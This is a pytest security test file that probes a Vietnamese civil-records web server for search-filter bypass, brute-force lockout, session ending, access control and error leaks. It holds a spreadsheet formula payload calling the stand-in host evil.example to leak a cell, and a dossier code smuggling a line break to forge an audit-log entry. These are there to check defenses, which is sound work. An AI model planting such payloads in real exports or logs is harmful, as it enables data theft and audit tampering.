"""An attacker's probe of `hoso serve` on loopback (issue 14, defects 15-21), signed in as an officer.

The data folder holds two citizens' ID cards rendered by `samples/`, scanned and OCRed for
real; the server is the real `hoso serve`, reached over HTTP. Defects fixed on another
branch are marked xfail(strict) with that branch: the lead flips them after merging.

The sign-in probes connect from distinct loopback addresses (127.0.0.x: Linux routes the
whole 127/8 to the loopback interface), so per-address limits can be exercised without one
test locking out the next.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import re
import statistics
import subprocess
import sys
import threading
import time
import urllib.parse
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from access.models import Actor
from access.officers import add_officer
from access.store import AccessStore
from catalogue.schema import documents
from catalogue.store import Catalogue
from pipeline.datadir import DataDir
from pipeline.ingest_run import ingest_paths
from pipeline.models import IngestOptions
from samples.batch import generate_batch
from tests.web_harness import ROOT, assert_no_traceback, free_port, serve

OFFICER, PASSWORD = "Nguyễn Thị Lan", "mat-khau-quay-1"
SUPERVISOR, SUPERVISOR_PASSWORD = "Phạm Văn Hùng", "mat-khau-giam-sat"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Xem")'
PROCEDURE = "cap_xac_nhan_tinh_trang_hon_nhan"
CARDS = ("quay2/CCCD_8218.jpg", "quay2/scan_0005.png")  # two citizens' ID cards


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """Two citizens' cards ingested (the first by an operator whose name is a spreadsheet formula,
    with a dossier); officers; (data, {citizen id: document id})."""
    folder = tmp_path_factory.mktemp("sec")
    truth = generate_batch(folder / "samples", seed=7)
    files = {f.name: f for f in truth.files}
    data = DataDir(folder / "data")
    add_officer(data.catalogue, OFFICER, "officer", PASSWORD, Actor.cli(None))
    add_officer(data.catalogue, SUPERVISOR, "supervisor", SUPERVISOR_PASSWORD, Actor.cli(None))
    add_officer(data.catalogue, FORMULA, "operator", None, Actor.cli(None))  # an accepted name: printable
    first, second = (files[name] for name in CARDS)
    owner = first.documents[0].owner_citizen_id
    outcomes = list(ingest_paths([folder / "samples" / first.name], data,
                                 IngestOptions(jobs=2, officer=FORMULA, citizen_id=owner, dossier="HS-SEC-0001",
                                               procedure=PROCEDURE)))
    outcomes += list(ingest_paths([folder / "samples" / second.name], data, IngestOptions(jobs=2)))
    assert [o.status for o in outcomes] == ["ingested", "ingested"], [o.reason for o in outcomes]
    with Catalogue(data.catalogue) as catalogue:
        with catalogue.read() as c:
            docs = {r.citizen_id: r.id for r in c.execute(sa.select(documents.c.id, documents.c.citizen_id))}
    expected = {f.documents[0].owner_citizen_id for f in (first, second)}
    assert set(docs) == expected, docs  # each card linked to its own holder
    return data, docs


@pytest.fixture(scope="module")
def server(world):
    data, _ = world
    port = free_port()
    with serve(data.root, port=port):
        yield port


class Client:
    """One browser: its cookies, from one source address, no redirects followed."""

    def __init__(self, port: int, source: str = "127.0.0.1"):
        self.port, self.source = port, source
        self.cookies: dict[str, str] = {}
        self.csrf = ""

    def request(self, method: str, path: str, form: dict | None = None):
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60, source_address=(self.source, 0))
        headers = {"Cookie": "; ".join(f"{k}={v}" for k, v in self.cookies.items())} if self.cookies else {}
        body = None
        if form is not None:
            body = urllib.parse.urlencode(form)
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        try:
            connection.request(method, path, body=body, headers=headers)
            response = connection.getresponse()
            payload = response.read()
        finally:
            connection.close()
        for header in response.headers.get_all("Set-Cookie") or []:
            name, _, rest = header.partition("=")
            value = rest.split(";", 1)[0]
            if value and "Max-Age=0" not in header and "expires=Thu, 01 Jan 1970" not in header:
                self.cookies[name] = value
            else:
                self.cookies.pop(name, None)
        token = re.search(rb'name="csrf" value="([^"]+)"', payload)
        if token and token.group(1):
            self.csrf = token.group(1).decode()
        return response.status, response.headers, payload

    def get(self, path: str):
        return self.request("GET", path)

    def post(self, path: str, form: dict):
        return self.request("POST", path, {"csrf": self.csrf, **form})

    def sign_in(self, name: str, password: str):
        self.get("/dang-nhap")
        status, headers, body = self.post("/dang-nhap", {"name": name, "password": password})
        if status == 302:
            self.get("/")  # the session's CSRF token
        return status, headers, body


def signed_in(port: int, name: str = OFFICER, password: str = PASSWORD) -> Client:
    client = Client(port)
    status, _, body = client.sign_in(name, password)
    assert status == 302, body.decode()[-600:]
    return client


def text_of(body: bytes) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", body.decode()))


def cli(*args: str, stdin: str | None = None, officer: str | None = None):
    env = {**os.environ, **({"HOSO_OFFICER": officer} if officer else {})}
    return subprocess.run([sys.executable, "-m", "cli", *args], cwd=ROOT, input=stdin, capture_output=True,
                          text=True, env=env, timeout=120)


# --- 15: an empty or invalid citizen ID, or a query without a term, is no "no filter" -----------

ID_LIKE = ["|||||", "|079190090122|NGUYEN VAN A|01011990", "12345", "000000000000", "999190090122"]
NO_TERM = ['"', "*", "(", "--", "%", "😀", "\x00", "| |"]


def test_an_invalid_id_or_a_query_without_a_term_lists_nobodys_papers(world, server):
    data, docs = world
    client = signed_in(server)
    for asked in ID_LIKE + NO_TERM:
        status, _, body = client.post("/tim-kiem", {"q": asked})
        page = text_of(body)
        assert status == 400, (asked, status)
        assert not any(doc_id in body.decode() for doc_id in docs.values()), asked
        assert "Công dân" not in page and "Mở hồ sơ mới" not in page and "NGUYEN VAN A" not in page, asked
        assert "digits only" not in page and "citizen ID" not in page, asked  # the refusal is in Vietnamese
        read_as_id = "|" in asked or asked.isdigit()  # the field takes an ID, a QR payload or words
        refusal = "Số định danh không hợp lệ" if read_as_id else "Cần ít nhất một từ"
        assert refusal in page, (asked, page[-400:])
    # Nothing of anyone became viewable in this session.
    for doc_id in docs.values():
        assert client.get(f"/tai-lieu/{doc_id}/anh-nho.jpg")[0] == 404
    # The same session, asked properly, gets one citizen's papers and no one else's.
    owner, other = list(docs)
    status, _, body = client.post("/tim-kiem", {"q": owner})
    assert status == 200 and docs[owner] in body.decode() and docs[other] not in body.decode()
    assert client.get(f"/tai-lieu/{docs[owner]}/anh-nho.jpg")[0] == 200


def test_the_audit_page_refuses_an_empty_or_invalid_id(world, server):
    client = signed_in(server, SUPERVISOR, SUPERVISOR_PASSWORD)
    client.get("/nhat-ky")
    for asked in ("|||||", "|079190090122|NGUYEN VAN A|01011990", "12345"):
        status, _, body = client.post("/nhat-ky", {"citizen": asked})
        assert status == 400 and "Số định danh không hợp lệ" in text_of(body), asked
        assert "Công dân" not in text_of(body), asked
    assert signed_in(server).post("/nhat-ky", {"citizen": "|||||"})[0] == 403  # still for supervisors only


def test_the_cli_refuses_the_same_searches(world):
    data, _ = world
    for args in (["*"], ["😀"], ["--citizen-id", "|||||"], ["--citizen-id", "|079190090122|NGUYEN VAN A|01011990"],
                 ["--citizen-id", "12345"]):
        result = cli("search", *args, "--data-dir", str(data.root), "--json", officer=OFFICER)
        assert result.returncode == 2, (args, result.stdout, result.stderr)
        assert "Traceback" not in result.stderr and '"documents"' not in result.stdout, args
        assert "at least one word" in result.stderr or "Not a valid citizen ID" in result.stderr, result.stderr


# --- 16: formula injection in the supervisors' XLSX and CSV ----------------------------------------

def test_an_officer_name_that_is_a_formula_stays_text_in_xlsx_and_csv(world, server):
    data, _ = world
    client = signed_in(server, SUPERVISOR, SUPERVISOR_PASSWORD)
    status, _, body = client.get("/thong-ke/bao-cao.xlsx")
    assert status == 200 and body[:2] == b"PK"
    sheet = load_workbook(io.BytesIO(body))["Theo công chức"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert any("HYPERLINK" in str(cell.value) for cell in cells), [c.value for c in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    month = datetime.now(ZoneInfo("Asia/Ho_Chi_Minh")).strftime("%Y-%m")  # the web page's default period
    result = cli("stats", "--period", month, "--format", "csv", "--data-dir", str(data.root), officer=SUPERVISOR)
    assert result.returncode == 0, result.stderr
    fields = [field for row in csv.reader(io.StringIO(result.stdout)) for field in row]
    assert any("HYPERLINK" in f for f in fields)
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"-[\d.,%]*", f)]


# --- 17: brute force ----------------------------------------------------------------------------------

def test_repeated_wrong_passwords_lock_the_name_and_say_when_to_try_again(world, server):
    data, _ = world
    victim = "Trần Văn Khóa"
    add_officer(data.catalogue, victim, "officer", "mat-khau-dung-roi", Actor.cli(None))
    attacker = Client(server, "127.0.0.21")
    for _ in range(5):
        assert attacker.sign_in(victim, "doan-mo-mat-khau")[0] == 401
    # Locked: even the right password is not checked now, and the page says until when, in Vietnamese.
    for source in ("127.0.0.21", "127.0.0.22"):
        status, headers, body = Client(server, source).sign_in(victim, "mat-khau-dung-roi")
        assert status == 429, (source, status)
        assert "tạm bị khóa" in text_of(body) and "thử lại sau" in text_of(body)
        assert 0 < int(headers["Retry-After"]) <= 60
    # Another officer is not locked out by it.
    signed_in(server)
    report = cli("audit", "--sign-ins", "--of", victim, "--json", "--data-dir", str(data.root), officer=SUPERVISOR)
    assert report.returncode == 0, report.stderr
    summary = json.loads(report.stdout)["officers"][0]
    assert (summary["name"], summary["failed"], summary["refused_locked"]) == (victim, 5, 2)
    assert summary["locked_until"] and summary["failed_from"] == ["web:127.0.0.21"]
    lines = cli("audit", "--sign-ins", "--data-dir", str(data.root), officer=SUPERVISOR).stdout
    assert f"{victim}: 0 signed in" in lines and "LOCKED until" in lines and f"{OFFICER}: " in lines
    refused = cli("audit", "--sign-ins", "--data-dir", str(data.root), officer=OFFICER)
    assert refused.returncode == 1 and "supervisor" in refused.stderr  # the sign-in view is for supervisors


def test_guesses_at_many_names_from_one_address_lock_that_address(world, server):
    guesser = "127.0.0.31"
    for n in range(20):
        assert Client(server, guesser).sign_in(f"cán bộ {n}", "doan-mo-mat-khau")[0] == 401
    assert Client(server, guesser).sign_in(OFFICER, PASSWORD)[0] == 429
    assert Client(server, "127.0.0.32").sign_in(OFFICER, PASSWORD)[0] == 302


def test_a_burst_of_parallel_wrong_sign_ins_does_not_slow_a_signed_in_officer(world, server):
    officer = signed_in(server)
    assert officer.get("/")[0] == 200
    stop = threading.Event()
    answers: list[int] = []

    def guess(n: int) -> None:  # 32 guessers, each from its own address, each at its own name
        client = Client(server, f"127.0.1.{n + 1}")
        tries = 0
        while not stop.is_set():  # a new name each time: no name's lock stops the hashing
            tries += 1
            answers.append(client.sign_in(f"khách {n}-{tries}", "doan-mo-mat-khau")[0])

    threads = [threading.Thread(target=guess, args=(n,), daemon=True) for n in range(32)]
    for thread in threads:
        thread.start()
    time.sleep(1.0)  # the burst is under way
    timings = []
    for _ in range(30):
        started = time.perf_counter()
        status, _, _ = officer.get("/")
        timings.append(time.perf_counter() - started)
        assert status == 200
        time.sleep(0.05)
    stop.set()
    for thread in threads:
        thread.join(timeout=60)
    assert 401 in answers and 503 in answers, sorted(set(answers))  # passwords were checked; the rest waited
    p95 = statistics.quantiles(timings, n=20)[-1]
    assert p95 < 0.5, f"signed-in page p95 {p95:.3f} s during 32 parallel sign-ins"


# --- 18: a password change ends the officer's sessions ----------------------------------------------

def test_a_password_change_or_deactivation_ends_the_officers_sessions(world, server):
    data, docs = world
    name, old, new = "Lê Văn Đổi", "mat-khau-cu-123", "mat-khau-moi-456"
    add_officer(data.catalogue, name, "officer", old, Actor.cli(None))
    laptop, counter = signed_in(server, name, old), signed_in(server, name, old)
    assert laptop.post("/tim-kiem", {"q": next(iter(docs))})[0] == 200
    changed = cli("officers", "set", name, "--password-stdin", "--data-dir", str(data.root), stdin=new + "\n")
    assert changed.returncode == 0, changed.stderr
    status, headers, _ = laptop.get("/")
    assert status == 302 and headers["Location"].startswith("/dang-nhap?thay_doi=1")
    assert "mật khẩu" in text_of(laptop.get(headers["Location"])[2])
    assert counter.post("/tim-kiem", {"q": next(iter(docs))})[0] == 401
    assert counter.get(f"/tai-lieu/{next(iter(docs.values()))}/anh-nho.jpg")[0] == 401
    assert Client(server).sign_in(name, old)[0] == 401
    again = signed_in(server, name, new)
    assert again.get("/")[0] == 200
    assert cli("officers", "set", name, "--inactive", "--data-dir", str(data.root)).returncode == 0
    assert again.get("/")[0] == 302
    with AccessStore(data.catalogue) as store:
        ended = [e for e in store.sign_in_entries(name, ("session_ended",))]
    assert len(ended) == 3  # the two sessions of the old password, then the one of the deactivated officer


# --- 19: dossier codes -----------------------------------------------------------------------------

def test_dossier_codes_with_line_breaks_or_slashes_are_refused(world, server):
    data, docs = world
    client = signed_in(server)
    owner = next(iter(docs))
    client.get("/ho-so")
    for code in ("HS-1\r\n#1 2026-01-01 00:00:00 admin (supervisor) audit via cli:root", "HS/2026/0001"):
        status, _, _ = client.post("/ho-so/mo", {"dossier": code, "citizen": owner, "procedure": PROCEDURE})
        assert status == 400, (code, status)
    trail = cli("audit", "--citizen-id", owner, "--data-dir", str(data.root), officer=SUPERVISOR).stdout
    assert "admin (supervisor)" not in trail


# --- 20: the PDF follows the images' rule ---------------------------------------------------------

def test_the_pdf_of_a_document_never_shown_to_the_session_is_not_served(world, server):
    _, docs = world
    client = signed_in(server)
    for doc_id in docs.values():
        status, _, body = client.get(f"/tai-lieu/{doc_id}/pdf")
        assert status == 404 and not body.startswith(b"%PDF"), (doc_id, status)


# --- 21: no 500, no path in a message ----------------------------------------------------------------

def test_a_period_to_year_9999_is_refused_not_a_server_error(world, server):
    client = signed_in(server, SUPERVISOR, SUPERVISOR_PASSWORD)
    for path in ("/thong-ke", "/thong-ke/bieu-do.png", "/thong-ke/bao-cao.xlsx"):
        status, _, _ = client.get(f"{path}?ky=2026-01-01..9999-12-31")
        assert status == 400, (path, status)


def test_a_not_found_message_does_not_name_the_data_folder(world, server):
    data, _ = world
    client = signed_in(server)
    for path in ("/tai-lieu/%00/pdf", "/tai-lieu/khong-co/pdf", "/tai-lieu/khong-co"):
        status, _, body = client.get(path)
        assert status == 404, (path, status)
        assert str(data.root) not in body.decode() and "no document" not in body.decode(), path


# --- last: the whole probe left no traceback behind ---------------------------------------------------

def test_the_probe_left_no_traceback_in_the_server_log(world, server):
    data, _ = world
    time.sleep(0.5)  # the server's last lines reach the file
    assert_no_traceback(data.root / "serve.log")
